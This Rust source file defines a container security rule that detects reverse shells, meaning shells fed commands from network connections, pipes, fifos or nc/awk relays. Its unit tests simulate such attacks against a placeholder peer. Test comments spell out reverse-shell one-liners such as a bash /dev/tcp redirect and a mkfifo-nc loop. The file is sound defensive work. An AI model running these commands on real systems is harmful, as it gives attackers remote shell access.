//! Shells and interpreters that read their commands from the network.

use bstr::ByteSlice as _;

use super::bare_shells::{BareShell, BareShells, bare, shell};
use super::command_peers::{FRESH, closed, fresh, has_text, held, recent, relays};
use super::reverse_alert::{is_fetch, reverse_alert};
use super::{copied_shell, fetched_commands, found_shell};
use crate::detect::alert::{Alert, Alerts};
use crate::detect::memory::{BESIDE, Outbound};
use crate::detect::rule_context::RuleContext;
use crate::detect::{Handler, Requirement, Rule, RuleInfo, Severity, discovery, program_roles};
use crate::event::{Connect, Endpoint, Exec, Origin};
use crate::state::ProcessEntry;

/// Reverse shell.
pub(super) const RULE: Rule = Rule {
    info: RuleInfo {
        id: "net.reverse-shell",
        title: "Reverse shell",
        label: "reverse shell",
        severity: Severity::Critical,
        attack: &["T1059.004", "T1571"],
        needs: &[Requirement::Exec, Requirement::Connect],
        explain: "A process connected out and then became a shell, or started one that takes its \
                  commands from the connection: directly, through a pipe, or through a fifo. It \
                  counts whichever program made the connection, and a copy of the image's shell \
                  under another name is a shell.",
        check: "Cut the container off the network first. Then look at the peer.",
    },
    handlers: &[
        Handler::Exec(|ctx, memory, exec| {
            let exec = copied_shell::under_its_original(memory, exec);
            reverse(ctx, memory.of(), &exec)
        }),
        Handler::Compare(|ctx, memory, compare| copied_shell::compared(ctx, memory, compare)),
        Handler::Connect(|ctx, memory, connect| reverse_pipe(ctx, memory.of(), connect)),
        Handler::Found(|ctx, memory, process| {
            copied_shell::remember(ctx, memory.of(), process);
            found_shell::examine(ctx, memory.of(), process)
        }),
    ],
};

fn reverse(ctx: &RuleContext<'_>, memory: &mut BareShells, exec: &Exec) -> Alerts {
    let pid = ctx.event.pid;
    if shell(ctx.names(), exec).is_none() {
        if let Some(out) = runs_commands_of_peer(ctx, exec) {
            let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
            return reverse_alert(ctx, &out, &command).into();
        }
        // Another interpreter may take its program from a socket just as well.
        if let Some(out) = fresh(ctx, pid).filter(|_| bare(ctx.names(), exec)) {
            let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
            return reverse_alert(ctx, &out, &command).into();
        }
        // The rule on pipes remembers an interpreter that reads its program from a pipe.
        return remember_bare(ctx, memory, exec);
    }
    // The same process connected, then became a shell: with any arguments.
    // One that waits for commands gets them from there, also from a port of the container: the end of
    // a tunnel may listen on it.
    let waits = bare(ctx.names(), exec);
    let own = fresh(ctx, pid).or_else(|| recent(ctx, pid).filter(|_| waits));
    let own = own.filter(|out| !closed(ctx, out));
    // Its parent connected, and the shell waits for commands.
    let parents = || {
        let parent = ctx.ancestors().nth(1)?;
        // A connected shell passes on the data that it read; so does the process next to a relay.
        if !waits {
            let relays =
                ctx.names().is_shell(program_roles::of(parent)) || has_text(ctx.names(), parent);
            let out = relays.then(|| fresh(ctx, parent.pid)).flatten();
            let out = out.filter(|out| !closed(ctx, out));
            return out
                .or_else(|| relayed(ctx, parent))
                .or_else(|| passed_on(ctx, parent, exec));
        }
        // At a terminal of an exec session a person types; a terminal that the parent does not have
        // was created by it.
        if exec.tty && ctx.session().is_some() && parent.tty {
            return None;
        }
        if relays(ctx, parent)
            && !is_fetch(ctx, parent.pid)
            && let Some(out) = held(ctx, parent)
        {
            return Some(out);
        }
        // A downloader's child shell runs fetched code; a server's shell is another rule's. Forks
        // in between have no program of their own.
        ctx.ancestors()
            .skip(1)
            .take(3)
            .take_while(|p| p.exe == parent.exe)
            .find_map(|p| match has_text(ctx.names(), p) {
                true => recent(ctx, p.pid).filter(|out| !closed(ctx, out)),
                false => fresh(ctx, p.pid),
            })
            .or_else(|| through_shells(ctx, exec))
    };
    let Some(out) = own.or_else(parents) else {
        return remember_bare(ctx, memory, exec);
    };
    let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
    reverse_alert(ctx, &out, &command).into()
}

/// The connected process above shells that only start this one with its own input: `sh -c 'sh -i
/// <&3'`.
fn through_shells(ctx: &RuleContext<'_>, exec: &Exec) -> Option<Outbound> {
    let hands_on = |p: &&ProcessEntry| {
        let text = program_roles::shell_text(&p.argv);
        ctx.names().is_shell(program_roles::of(p)) && text.is_some_and(keeps_input)
    };
    if !exec.fed_by.is_empty() {
        return None;
    }
    let mut above = ctx.ancestors().skip(1).skip_while(hands_on);
    let connected = above.next()?;
    let shell = ctx.names().is_shell(program_roles::of(connected));
    let out = (!shell).then(|| fresh(ctx, connected.pid)).flatten();
    out.filter(|out| !closed(ctx, out))
}

/// The text gives the started program no other input than an existing descriptor.
fn keeps_input(text: &[u8]) -> bool {
    let other = |at: usize| text.get(at + 1) != Some(&b'&');
    !text.contains(&b'|') && !text.find_iter(b"<").any(other)
}

/// A script given as an argument is connected and runs a command that queries the system.
fn runs_commands_of_peer(ctx: &RuleContext<'_>, exec: &Exec) -> Option<Outbound> {
    let parent = ctx.ancestors().nth(1)?;
    if fetched_commands::is_from_descriptor(ctx.names(), parent, exec) {
        return fresh(ctx, parent.pid);
    }
    if !has_text(ctx.names(), parent) || is_fetch(ctx, parent.pid) {
        return None;
    }
    let words: Vec<&[u8]> = exec.argv.iter().map(|a| a.as_bytes()).collect();
    discovery::of(&words)?;
    fresh(ctx, parent.pid).filter(|out| !closed(ctx, out))
}

/// An interpreter that starts shells runs next to a relay with a connection: `nc … | awk …`.
fn relayed(ctx: &RuleContext<'_>, parent: &ProcessEntry) -> Option<Outbound> {
    if !ctx.names().is_interpreter(program_roles::of(parent)) {
        return None;
    }
    let beside = ctx.memory.get(ctx.owner)?.beside(parent.ppid);
    beside
        .iter()
        .filter_map(|pid| ctx.state.processes.get(pid))
        .filter(|p| p.pid != parent.pid && p.owner.as_ref() == Some(ctx.owner))
        // Both ends of a pipe: they began together.
        .filter(|p| p.started.since(parent.started) <= BESIDE)
        .filter(|p| parent.started.since(p.started) <= BESIDE)
        .filter(|p| program_roles::is_relay(program_roles::of(p), &p.argv))
        .find_map(|p| fresh(ctx, p.pid))
        .filter(|out| !out.to.ip().is_loopback())
}

/// Inline code passes on a command that its text does not contain, from a peer to which it has
/// been connected for however long.
fn passed_on(ctx: &RuleContext<'_>, parent: &ProcessEntry, exec: &Exec) -> Option<Outbound> {
    let foreign = relays(ctx, parent)
        && fetched_commands::is_foreign(ctx.names(), parent, exec)
        && !is_fetch(ctx, parent.pid);
    foreign.then(|| held(ctx, parent)).flatten()
}

/// A shell that waits for commands may get them from a sibling that connects later.
fn remember_bare(ctx: &RuleContext<'_>, memory: &mut BareShells, exec: &Exec) -> Alerts {
    if !bare(ctx.names(), exec) || exec.tty {
        return Alerts::none();
    }
    memory.add(BareShell {
        pid: ctx.event.pid,
        ppid: ctx.parent_pid(exec),
        at: ctx.now(),
        seq: ctx.event.seq,
        fed_by: exec.fed_by.iter().copied().collect(),
    });
    if let Some((out, feeder)) = fed(ctx, exec) {
        let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
        let relay = program_roles::command_line(&feeder.argv, &feeder.exe, 160);
        return reverse_alert(ctx, &out, &command)
            .reason(format!("fed through a pipe by: {relay}"))
            .into();
    }
    if shell(ctx.names(), exec).is_none() {
        return Alerts::none();
    }
    // The sibling may have connected already.
    let sibling = ctx
        .state
        .processes
        .values()
        .filter(|p| p.ppid == ctx.parent_pid(exec) && p.pid != ctx.event.pid && p.exited.is_none())
        .filter(|p| p.owner.as_ref() == Some(ctx.owner))
        .find_map(|p| Some((fresh(ctx, p.pid)?, p.pid)));
    if let Some((out, pid)) = sibling
        && !is_fetch(ctx, pid)
    {
        let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
        return reverse_alert(ctx, &out, &command).into();
    }
    Alerts::none()
}

/// A relay writes into the shell's input and is connected, for however long; neither its parent nor
/// the pipe's name matters.
fn fed<'a>(ctx: &RuleContext<'a>, exec: &Exec) -> Option<(Outbound, &'a ProcessEntry)> {
    let feeders = exec
        .fed_by
        .iter()
        .filter_map(|pid| ctx.state.processes.get(pid));
    let mut relays = feeders.filter(|p| {
        let foreign = matches!(
            p.file.origin(),
            Origin::Upper | Origin::Tmpfs | Origin::Memfd | Origin::Deleted
        );
        // A program that was built here may feed its own shell.
        let above = ctx.ancestors().any(|above| above.pid == p.pid);
        let stranger = foreign && !above && p.owner.as_ref() == Some(ctx.owner);
        (relays(ctx, p) || stranger) && !is_fetch(ctx, p.pid)
    });
    relays.find_map(|p| Some((held(ctx, p)?, &**p)))
}

fn reverse_pipe(ctx: &RuleContext<'_>, memory: &BareShells, connect: &Connect) -> Alerts {
    let Endpoint::Inet(to) = connect.remote else {
        return Alerts::none();
    };
    if to.port() == 53 || is_fetch(ctx, ctx.event.pid) {
        return Alerts::none();
    }
    let Some(process) = ctx.process else {
        return Alerts::none();
    };
    let now = ctx.now();
    let mut shells = memory.iter();
    let found = shells.find(|shell| {
        let running = ctx.state.processes.get(&shell.pid);
        // Its pipe, its socket pair or its terminal.
        let feeds = (shell.fed_by.contains(&process.pid) || shell.ppid == process.pid)
            && relays(ctx, process);
        let beside = shell.ppid == process.ppid && now.since(shell.at).as_secs() <= FRESH;
        (beside || feeds) && shell.pid != process.pid && running.is_some_and(|p| p.exited.is_none())
    });
    let Some(shell) = found else {
        return Alerts::none();
    };
    let command = program_roles::command_line(&process.argv, &process.exe, 160);
    // A shell between two connections is one finding.
    if let Some(index) = ctx.marked_by(shell.pid, ctx.rule.id) {
        return Alert::addition(index)
            .reason(format!("also connected to {to}: {command}"))
            .evidence(now, ctx.event.seq)
            .into();
    }
    let out = Outbound {
        to,
        started: process.started,
        ts: now,
        seq: shell.seq,
    };
    reverse_alert(ctx, &out, &format!("fed by {command}"))
        .follows(shell.pid)
        .into()
}

#[cfg(test)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;

    #[test]
    fn reverse_shells_in_three_ways() {
        // bash -i >& /dev/tcp/…: the process connects, then becomes the shell.
        let mut w = World::steady();
        let init = w.init();
        let p = w.fork(init);
        w.connect(p, "10.9.8.7:4444");
        w.exec_as(p, init, "/bin/bash", &["bash", "-i"], |_| {});
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // python: connect, then a child shell.
        let mut w = World::steady();
        let init = w.init();
        let p = w.exec(init, "/usr/bin/python3", &["python3", "-c", "x"]);
        w.connect(p, "10.9.8.7:4444");
        w.exec(p, "/bin/sh", &["/bin/sh", "-i"]);
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // rm f; mkfifo f; cat f | sh -i 2>&1 | nc host port > f
        let mut w = World::steady();
        let init = w.init();
        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
        w.exec(sh, "/bin/cat", &["cat", "/tmp/f"]);
        w.exec(sh, "/bin/busybox", &["sh", "-i"]);
        let nc = w.exec(sh, "/bin/busybox", &["nc", "10.9.8.7", "4444"]);
        w.connect(nc, "10.9.8.7:4444");
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
    }

    #[test]
    fn the_peer_may_be_the_end_of_a_tunnel_in_the_container() {
        let world = || {
            let mut w = World::steady();
            let init = w.init();
            w.listen(init, "127.0.0.1:4444");
            (w, init)
        };
        let (mut w, init) = world();
        let p = w.fork(init);
        w.connect(p, "127.0.0.1:4444");
        w.exec_as(p, init, "/bin/bash", &["bash", "-i"], |_| {});
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        let (mut w, init) = world();
        let p = w.exec(init, "/usr/bin/python3", &["python3", "-c", "x"]);
        w.connect(p, "127.0.0.1:4444");
        w.exec(p, "/bin/sh", &["/bin/sh", "-i"]);
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // A start script that waits for its database, and an application that uses it.
        let (mut w, init) = world();
        let p = w.fork(init);
        w.connect(p, "127.0.0.1:4444");
        w.exec_as(p, init, "/bin/sh", &["sh", "/srv/start"], |_| {});
        let p = w.exec(init, "/usr/bin/python3", &["python3", "/srv/app.py"]);
        w.connect(p, "127.0.0.1:4444");
        w.exec(p, "/bin/sh", &["/bin/sh"]);
        assert!(w.all("net.reverse-shell").is_empty());
    }

    #[test]
    fn a_shell_between_two_connections_is_one_finding() {
        let mut w = World::steady();
        let init = w.init();
        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
        w.exec(sh, "/bin/busybox", &["sh"]);
        for port in [4444, 4445] {
            let to = format!("10.9.8.7:{port}");
            let nc = w.exec(sh, "/bin/busybox", &["nc", "10.9.8.7"]);
            w.connect(nc, &to);
        }
        let all = w.all("net.reverse-shell");
        assert_eq!(all.len(), 1, "{all:?}");
        let why = all[0].why.join("\n");
        assert!(why.contains("10.9.8.7:4445"), "{why}");
    }

    #[test]
    fn forks_between_the_connection_and_the_shell_do_not_hide_it() {
        let mut w = World::steady();
        let init = w.init();
        let perl = w.exec(init, "/usr/bin/perl", &["perl", "-e", "x"]);
        w.connect(perl, "10.9.8.7:4444");
        let child = w.fork(perl);
        let grandchild = w.fork(child);
        w.exec_as(grandchild, child, "/bin/sh", &["/bin/sh", "-i"], |_| {});
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // Another program in between excludes it.
        let mut w = World::steady();
        let init = w.init();
        let perl = w.exec(init, "/usr/bin/perl", &["perl", "-e", "x"]);
        w.connect(perl, "10.9.8.7:4444");
        let app = w.exec(perl, "/usr/bin/app", &["app"]);
        w.exec(app, "/bin/sh", &["/bin/sh", "-i"]);
        w.none("net.reverse-shell");
    }

    #[test]
    fn reverse_shells_by_relays() {
        // while read l; do sh -c "$l"; done, of a shell that has opened /dev/tcp itself.
        let mut w = World::steady();
        let init = w.init();
        let bash = w.exec(init, "/bin/bash", &["bash", "-c", "x"]);
        w.connect(bash, "10.9.8.7:4444");
        w.exec(bash, "/bin/sh", &["sh", "-c", "id"]);
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // nc … | awk '{ while ($0 | getline l) print l }'
        let mut w = World::steady();
        let init = w.init();
        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
        let nc = w.exec(sh, "/bin/nc.openbsd", &["nc", "10.9.8.7", "4444"]);
        w.connect(nc, "10.9.8.7:4444");
        let awk = w.exec(sh, "/usr/bin/mawk", &["awk", "{ $0 | getline }"]);
        w.exec(awk, "/bin/sh", &["sh", "-c", "id"]);
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // python -c '… for each line: os.system(line)'
        let mut w = World::steady();
        let init = w.init();
        let python = w.exec(init, "/usr/bin/python3", &["python3", "-c", "x"]);
        w.connect(python, "10.9.8.7:4444");
        w.exec(python, "/bin/sh", &["sh", "-c", "id"]);
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // An interpreter that reads its program from the socket.
        let mut w = World::steady();
        let init = w.init();
        let p = w.fork(init);
        w.connect(p, "10.9.8.7:4444");
        w.exec_as(p, init, "/usr/bin/perl", &["perl"], |_| {});
        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        // A probe of a port, then a program; a relay next to a filter that starts nothing.
        let mut w = World::steady();
        let init = w.init();
        let sh = w.exec(init, "/bin/bash", &["bash", "/wait.sh"]);
        let probe = w.fork(sh);
        w.connect(probe, "10.0.0.5:5432");
        w.exit(probe);
        w.exec(sh, "/bin/sh", &["sh", "-c", "migrate"]);
        let nc = w.exec(sh, "/bin/nc", &["nc", "10.0.0.5", "80"]);
        w.connect(nc, "10.0.0.5:80");
        w.exec(sh, "/usr/bin/mawk", &["awk", "1"]);
        w.none("net.reverse-shell");
    }

    #[test]
    fn ordinary_shells_next_to_connections_are_silent() {
        let mut w = World::starting();
        let init = w.init();
        let app = w.exec(init, "/usr/bin/python3", &["python3", "app.py"]);
        w.ticks(60);
        // A service connects to its database and runs a command through the shell.
        w.connect(app, "10.0.0.5:5432");
        w.exec(app, "/bin/sh", &["sh", "-c", "ffmpeg -i x"]);
        // A script's shell queries a resolver, then runs a script.
        let sh = w.exec(init, "/bin/sh", &["sh", "/job.sh"]);
        let curl = w.exec(sh, "/usr/bin/curl", &["curl", "x"]);
        w.connect(curl, "10.0.0.9:80");
        w.exec(sh, "/bin/sh", &["sh", "/other.sh"]);
        w.only(&[]);
    }
}
